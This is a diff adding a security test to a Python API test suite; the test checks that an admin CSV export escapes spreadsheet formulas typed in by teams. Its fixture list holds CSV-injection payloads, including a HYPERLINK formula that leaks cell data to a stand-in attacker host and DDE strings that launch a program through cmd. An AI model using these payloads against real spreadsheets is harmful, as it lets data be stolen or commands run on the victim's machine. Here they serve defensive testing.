@@ -2,11 +2,14 @@
 
 Hypothesis throws arbitrary JSON at the endpoints — every entry field with values of any type,
 unknown fields, non-object bodies — and the answer must be a success or a clear 4xx; submitting
-whatever was accepted must not fail with a 500 either.
+whatever was accepted must not fail with a 500 either. And nothing a team types reaches the
+admin's spreadsheet as a formula.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
@@ -87,6 +90,7 @@ bodies = mutated_entries | arbitrary_entries | json_values
 class Api:
     client: httpx.AsyncClient
     team: dict[str, str]
+    admin: dict[str, str]
 
     async def call(self, method: str, path: str, body: Any = None) -> httpx.Response:
         return await self.client.request(method, path, json=body, headers=self.team)
@@ -130,7 +134,7 @@ async def api(
         ):
             response = await http.post(path, json=body, headers=admin)
             assert response.status_code in (200, 201), response.text
-        yield Api(client=http, team=bearer(Role.SUBMITTER))
+        yield Api(client=http, team=bearer(Role.SUBMITTER), admin=admin)
         resources = app.state.resources
         await resources.mongo.drop_database(resources.db.name)
 
@@ -174,3 +178,38 @@ async def test_patching_a_draft_never_fails_with_500(api: Api, body: Any) -> Non
     assert draft.status_code == 201, draft.text
     patched = await api.call("PATCH", f"/entries/{draft.json()['entry_id']}", body)
     assert_not_5xx(patched, body)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example.org/?leak="&A2,"Open the entry")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_the_admins_csv_hands_a_spreadsheet_no_formula(api: Api) -> None:
+    mine = []
+    for n, formula in enumerate(FORMULAS):
+        draft = await api.call(
+            "POST",
+            f"/editions/{YEAR}/entries",
+            {"title": formula, "organisation_name": formula, "contact_name": f"{formula} {n}"},
+        )
+        assert draft.status_code == 201, draft.text
+        mine.append(draft.json()["entry_id"])
+
+    exported = await api.client.get(f"/admin/editions/{YEAR}/entries.csv", headers=api.admin)
+
+    assert exported.status_code == 200
+    assert exported.content.startswith("\ufeff".encode()), "without the BOM Excel misreads UTF-8"
+    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    by_id = {row["entry_id"]: row for row in rows}
+    for entry_id, formula in zip(mine, FORMULAS, strict=True):
+        assert by_id[entry_id]["title"] == "'" + formula
+        assert by_id[entry_id]["organisation_name"] == "'" + formula
+    for row in rows:  # every entry of the edition, the fuzzed ones included
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
